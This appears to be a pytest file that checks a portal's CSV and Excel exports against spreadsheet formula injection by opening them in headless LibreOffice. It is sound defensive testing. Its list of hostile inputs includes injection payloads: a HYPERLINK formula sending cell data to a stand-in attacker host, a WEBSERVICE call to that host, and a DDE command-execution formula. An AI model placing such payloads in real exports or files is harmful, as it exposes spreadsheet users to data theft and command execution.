"""What the portal exports is opened by LibreOffice: nothing is a formula, and all is the same.

Security, part 6. LibreOffice writes what it read as a workbook of its own, and that is looked at.
"""

import subprocess
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from hub_portal.shared.exports import Column, csv_bytes, xlsx_bytes
from hub_portal.shared.formula_safety import protected
from tests.browser import services

pytestmark = [pytest.mark.fault, pytest.mark.libreoffice]

# comma, quote, UTF-8, from the first line; dates are looked for, and formulas worked out
AS_FOOLISHLY_AS_CAN_BE = "CSV:44,34,76,1,,0,false,true,false,false,false,0,true"
COLUMNS = (
    Column("Text", lambda row: row[0]),
    Column("Number", lambda row: row[1]),
    Column("=Day", lambda row: row[2]),
    Column("At", lambda row: datetime(2026, 8, 31, 23, 30, tzinfo=UTC)),
)
DAY = date(2027, 2, 17)
IN_LONDON = datetime(2026, 9, 1, 0, 30)  # noqa: DTZ001
HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1,1)",
    " =1+1",
    "\t=1+1",
    "\u200b=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Look")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example/")',
    "'=1+1",
    "-5",
    "\u22125",
]
PLAIN = [
    "Zo\u00eb O\u2019Brien",
    'She said "yes"',
    "one, two; three",
    "first line\nsecond line",
    "\U0001f393 graduation \U0001f469\u200d\U0001f3eb",
    "caf\u00e9 \u4e2d\u6587 \u05e9\u05dc\u05d5\u05dd",
    "{=1+1}",
    "#N/A",
    "a\ttab",
    "TRUE story",
]
LIKE_NUMBERS = [
    "007",
    "0044 20 7946 0000",
    "12345678901234567890",
    "2027-02-17",
    "1e5",
    "50%",
    "1/2",
]
NUMBERS = [0, -5, 1204, 999_999_999_999, Decimal("-3.50"), 0.25, -0.0, None]


@pytest.fixture(scope="module")
def opened(tmp_path_factory):
    """A file as LibreOffice has it: the rows of cells of the workbook that it wrote."""
    home = tmp_path_factory.mktemp("libreoffice")

    def open_there(name, content, *how):
        given = home / name
        given.write_bytes(content)
        command = [
            services.libreoffice(),
            f"-env:UserInstallation=file://{home}/profile",
            "--headless",
            *how,
            "--convert-to",
            "xlsx:Calc MS Excel 2007 XML",
            "--outdir",
            home / "out",
            given,
        ]
        subprocess.run(command, check=True, capture_output=True, timeout=120)
        return list(load_workbook(home / "out" / f"{given.stem}.xlsx").active.iter_rows())

    return open_there


def rows(texts):
    return [(text, NUMBERS[place % len(NUMBERS)], DAY) for place, text in enumerate(texts)]


def formulas(found):
    return [cell.value for row in found for cell in row if cell.data_type == "f"]


def assert_same(found, given, *, shown):
    assert [cell.value for cell in found[0]] == ["Text", "Number", shown("=Day"), "At"]
    assert [row[0].value for row in found[1:]] == [shown(text) for text, _, _ in given]
    assert {row[0].data_type for row in found[1:]} == {"s"}
    assert [row[1].value for row in found[1:]] == [
        None if number is None else pytest.approx(float(number)) for _, number, _ in given
    ]
    assert {row[2].value for row in found[1:]} == {datetime(2027, 2, 17)}  # noqa: DTZ001
    assert {row[3].value for row in found[1:]} == {IN_LONDON}


def test_a_csv_has_no_formula_and_reads_the_same(opened):
    given = rows([*HOSTILE, *PLAIN])

    found = opened(
        "list.csv", csv_bytes(columns=COLUMNS, rows=given), f"--infilter={AS_FOOLISHLY_AS_CAN_BE}"
    )

    assert formulas(found) == []
    assert_same(found, given, shown=protected)


def test_a_workbook_has_no_formula_and_reads_the_same(opened):
    """A workbook also keeps text that looks like a number, which no CSV file can."""
    given = rows([*HOSTILE, *PLAIN, *LIKE_NUMBERS])

    found = opened("book.xlsx", xlsx_bytes(columns=COLUMNS, rows=given))

    assert formulas(found) == []
    assert_same(found, given, shown=str)


def test_an_unprotected_csv_would_be_worked_out(opened):
    """The negative control: opened in the same way, this is a formula."""
    content = b"=1+1\r\ntext\r\n"

    found = opened("bare.csv", content, f"--infilter={AS_FOOLISHLY_AS_CAN_BE}")

    assert formulas(found) == ["=1+1"]
